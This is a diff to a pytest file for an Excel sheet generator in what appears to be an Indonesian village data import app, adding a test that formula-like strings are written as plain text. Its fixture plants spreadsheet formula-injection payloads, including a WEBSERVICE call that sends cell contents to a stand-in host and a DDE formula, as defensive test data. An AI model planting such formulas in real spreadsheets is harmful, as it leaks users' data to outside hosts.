@@ -11,6 +11,7 @@ from openpyxl.styles import PatternFill
 
 from core.models import ImportJob, Village
 from core.sheets.balikan import balikan_name, write_balikan
+from core.sheets.balikan_own import put
 from core.sheets.balikan_places import COMMENT_MARK, FILLS, HEADERS
 from core.sheets.rows import SKIP
 from tests import phone_sheets
@@ -150,6 +151,12 @@ def test_nothing_in_it_is_a_formula(job):
     assert EVIL in [cell.value for cell in opened(job).worksheets[0]["E"]]
 
 
+@pytest.mark.parametrize("text", [EVIL, "=1+1", "+1", "-1", "@SUM(A1)"])
+def test_what_we_write_is_text_whatever_it_says(text):
+    cell = put(openpyxl.Workbook().active, 1, 1, text)
+    assert (cell.value, cell.data_type) == (text, "s")
+
+
 def test_it_is_made_only_where_there_are_rows_to_show(job):
     job.stage = ImportJob.Stage.MAPPING
     with pytest.raises(ValidationError, match="belum dapat dibuat"):
@@ -166,11 +173,11 @@ def dressed(sheet) -> None:
     sheet.column_dimensions.group("G", "XFD", hidden=True)
     sheet.merge_cells("A1:F1")
     sheet["F3"].value, sheet["F3"].number_format = datetime.date(2025, 11, 3), "dd/mm/yyyy"
-    sheet["G9"].value = "=1+1"
-    sheet["G10"].value = '=WEBSERVICE("http://x.example/"&A1)'
+    sheet["C9"].value = "=1+1"
+    sheet["D10"].value = '=WEBSERVICE("http://x.example/"&A1)'
     sheet.auto_filter.ref = "A2:F7"
     other = sheet.parent.create_sheet("Lain")
-    other["B2"] = "tetap"
+    other["B2"], other["B3"] = "tetap", "=DDE(1)"
     book = sheet.parent
     book.defined_names["Jahat"] = openpyxl.workbook.defined_name.DefinedName(
         "Jahat", attr_text="[1]Lain!$A$1"
